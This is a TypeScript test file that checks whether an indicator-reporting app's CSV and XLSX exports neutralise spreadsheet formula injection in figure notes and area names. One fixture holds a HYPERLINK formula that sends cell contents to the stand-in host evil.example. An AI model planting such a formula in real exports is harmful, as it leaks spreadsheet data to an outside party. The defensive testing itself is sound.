// Issue 15, point 8: a figure's note typed as a formula stays text in every export (CSV for the API's export
// and `sen report --csv`, which both use indicatorsCsv; XLSX).
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { csvSafeText, toSafeCsv } from '../csv/safe-csv';
import { EXPORT_COLUMNS, indicatorsCsv, indicatorsXlsx } from './indicator-export';
import type { IndicatorLine } from './indicator-table';

const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")';

const line = (over: Partial<IndicatorLine>): IndicatorLine => ({
  number: 1,
  goal: 1,
  targetKey: 'child_friendly_communes',
  nameEn: 'Child-friendly communes',
  nameVi: 'Xã phù hợp với trẻ em',
  labelEn: 'share',
  leadAgency: 'social_affairs',
  computed: false,
  year: 2026,
  areaCode: '82',
  areaName: 'Đồng Tháp',
  unit: 'percent',
  value: -1.5,
  numerator: null,
  denominator: null,
  target: null,
  targetMet: null,
  source: 'entered',
  noData: null,
  note: null,
  enteredAt: '2026-11-20T01:00:00.000Z',
  enteredAgency: 'social_affairs',
  ...over,
});

describe('CSV cells that a spreadsheet would take for a formula', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])('prefixes %j with a single quote', (text) => {
    expect(csvSafeText(text)).toBe(`'${text}`);
  });

  it('leaves other text, and numbers, as they are', () => {
    expect(csvSafeText('Báo cáo năm 2026')).toBe('Báo cáo năm 2026');
    expect(csvSafeText('a = b')).toBe('a = b');
    expect(toSafeCsv([[-1.5, true, null, 'x']])).toBe('-1.5,true,,x\n');
  });

  it("escapes an entered figure's note in the indicator export", () => {
    const csv = indicatorsCsv([line({ note: HOSTILE, areaName: '-Đồng Tháp' })]);
    const [header, row] = parse(csv) as string[][];
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(row![EXPORT_COLUMNS.indexOf('note')]).toBe(`'${HOSTILE}`);
    expect(row![EXPORT_COLUMNS.indexOf('area_name')]).toBe("'-Đồng Tháp");
    expect(row![EXPORT_COLUMNS.indexOf('value')]).toBe('-1.5');
  });

  it('writes such a note into the XLSX export as text, never as a formula', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await indicatorsXlsx([line({ note: HOSTILE })], 'Sen')) as unknown as ArrayBuffer);
    const cell = book
      .getWorksheet('indicators')!
      .getRow(3)
      .getCell(EXPORT_COLUMNS.indexOf('note') + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    expect(cell.value).toBe(HOSTILE);
  });
});
